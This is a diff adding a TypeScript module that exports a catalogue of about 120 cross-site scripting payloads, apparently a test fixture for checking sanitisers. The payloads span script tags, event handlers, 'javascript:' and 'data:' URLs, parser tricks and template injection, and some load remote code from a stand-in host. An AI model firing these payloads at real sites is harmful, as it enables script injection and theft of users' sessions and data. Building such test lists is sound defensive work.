@@ -1,0 +1,151 @@
+/**
+ * What people have smuggled into text fields: each would call `pwned()` where a component took it for HTML, for a
+ * template, for a style or for an address. Written out by family, so that a missing one is seen.
+ */
+const call = 'pwned()';
+const coded = call.replaceAll(/./g, (letter) => `&#${letter.charCodeAt(0)};`);
+
+const scripts = [
+  `<script>${call}</script>`,
+  `<ScRiPt>${call}</sCrIpT>`,
+  `<script src=https://xss.example/a.js></script>`,
+  `<script src="//xss.example/a.js"></script>`,
+  `<script type="module">${call}</script>`,
+  `<script>/*`,
+  `*/${call}</script>`,
+  `</script><script>${call}</script>`,
+  `<script/x>${call}</script>`,
+  `<script\n>${call}</script\n>`,
+  `<scr<script>ipt>${call}</scr</script>ipt>`,
+  `<svg><script>${call}</script></svg>`,
+  `<svg><script href="data:text/javascript,${call}"/></svg>`,
+  `<script>window['pw'+'ned']()</script>`,
+  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
+  `<script>${call}<!--`,
+];
+
+const handled = [
+  ['img src=x', 'onerror'],
+  ['img src=x:x', 'onerror'],
+  ['img/src=x', 'onerror'],
+  ['IMG SRC=x', 'ONERROR'],
+  ['svg', 'onload'],
+  ['svg/onload', 'onload'],
+  ['body', 'onload'],
+  ['body', 'onpageshow'],
+  ['input autofocus', 'onfocus'],
+  ['select autofocus', 'onfocus'],
+  ['textarea autofocus', 'onfocus'],
+  ['keygen autofocus', 'onfocus'],
+  ['video src=x', 'onerror'],
+  ['video><source', 'onerror'],
+  ['audio src=x', 'onerror'],
+  ['details open', 'ontoggle'],
+  ['marquee', 'onstart'],
+  ['iframe', 'onload'],
+  ['object data=x', 'onerror'],
+  ['embed src=x', 'onload'],
+  ['link rel=stylesheet href=x', 'onerror'],
+  ['style', 'onload'],
+  ['div style="animation:x" ', 'onanimationstart'],
+  ['div tabindex=0 autofocus', 'onfocusin'],
+  ['a href=# ', 'onmouseover'],
+  ['button popovertarget=x', 'onbeforetoggle'],
+  ['xss contenteditable', 'onblur'],
+  ['image src=x', 'onerror'],
+  ['math><mtext><img src=x', 'onerror'],
+  ['isindex type=image src=1', 'onerror'],
+] as const;
+const handlers = handled.map(([element, event], n) =>
+  n % 3 === 0
+    ? `<${element} ${event}=${call}>`
+    : n % 3 === 1
+      ? `"><${element} ${event}="${call}">`
+      : `'><${element} ${event}='${coded}'>`,
+);
+
+const addresses = [
+  `javascript:${call}`,
+  `JaVaScRiPt:${call}`,
+  ` javascript:${call}`,
+  `java\tscript:${call}`,
+  `java\nscript:${call}`,
+  `java\r\nscript:${call}`,
+  `\u0001javascript:${call}`,
+  `\u00a0javascript:${call}`,
+  `javascript&colon;${call}`,
+  `javascript&#58;${call}`,
+  `javascript://%0a${call}`,
+  `javascript://comment%0a${call}//https://`,
+  `javascript:window.pwned()`,
+  `vbscript:${call}`,
+  `livescript:${call}`,
+  `data:text/html,<script>${call}</script>`,
+  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
+  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
+  `data:text/javascript,${call}`,
+  `blob:https://xss.example/0191f3c2`,
+  `file:///etc/passwd`,
+  `view-source:https://xss.example`,
+  `https://xss.example/"onerror="${call}`,
+  `https://xss.example/'onload='${call}`,
+  `https://xss.example/><script>${call}</script>`,
+  `//xss.example/${call}`,
+  `\\\\xss.example\\x`,
+  `https:javascript:${call}`,
+  `/\\xss.example`,
+  `https://www.youtube.com/watch?v="><script>${call}</script>`,
+  `https://youtu.be/"onload="${call}`,
+  `https://youtube.com.xss.example/embed/BOMBERS0001`,
+];
+
+const elements = [
+  `<iframe src="javascript:${call}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
+  `<iframe src="data:text/html,<script>parent.${call}</script>"></iframe>`,
+  `<a href="javascript:${call}" autofocus>press</a>`,
+  `<form action="javascript:${call}"><input type=submit autofocus></form>`,
+  `<form><button formaction="javascript:${call}">press</button></form>`,
+  `<object data="javascript:${call}"></object>`,
+  `<embed src="javascript:${call}">`,
+  `<base href="https://xss.example/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
+  `<meta http-equiv="refresh" content="0;url=https://xss.example/">`,
+  `<link rel="import" href="https://xss.example/">`,
+  `<math href="javascript:${call}">press</math>`,
+  `<svg><a xlink:href="javascript:${call}"><text y=20>press</text></a></svg>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${call}'/></svg>#x"></svg>`,
+  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
+  `<title><img title="</title><img src=x onerror=${call}>"></title>`,
+  `<template><img src=x onerror=${call}></template>`,
+  `<math><mi//xlink:href="data:x,<script>${call}</script>">`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
+  `<table><tr><td background="javascript:${call}">`,
+  `<style>@import 'https://xss.example/a.css';</style>`,
+  `<style>*{background:url(https://xss.example/a)}</style>`,
+  `<div style="background:url(javascript:${call})">`,
+  `<div style="width:expression(${call})">`,
+  `<!--<img src="--><img src=x onerror=${call}//">`,
+  `<![CDATA[><img src=x onerror=${call}>]]>`,
+  `<?xml-stylesheet href="javascript:${call}"?>`,
+];
+
+const templates = [
+  `{{constructor.constructor('${call}')()}}`,
+  `\${${call}}`,
+  `<%= ${call} %>`,
+  `#{${call}}`,
+  `{{#with "s"}}{{${call}}}{{/with}}`,
+  `[[${call}]]`,
+  `{"$$typeof":"Symbol(react.element)","type":"script","props":{"dangerouslySetInnerHTML":{"__html":"${call}"}}}`,
+  `__proto__[innerHTML]=<img/src/onerror=${call}>`,
+  `'-${call}-'`,
+  `";${call}//`,
+  `\`-${call}-\``,
+  `\u202e${call}\u202c<script>${call}</script>`,
+  `＜script＞${call}＜/script＞`,
+];
+
+export const xssPayloads: readonly string[] = [...scripts, ...handlers, ...addresses, ...elements, ...templates];
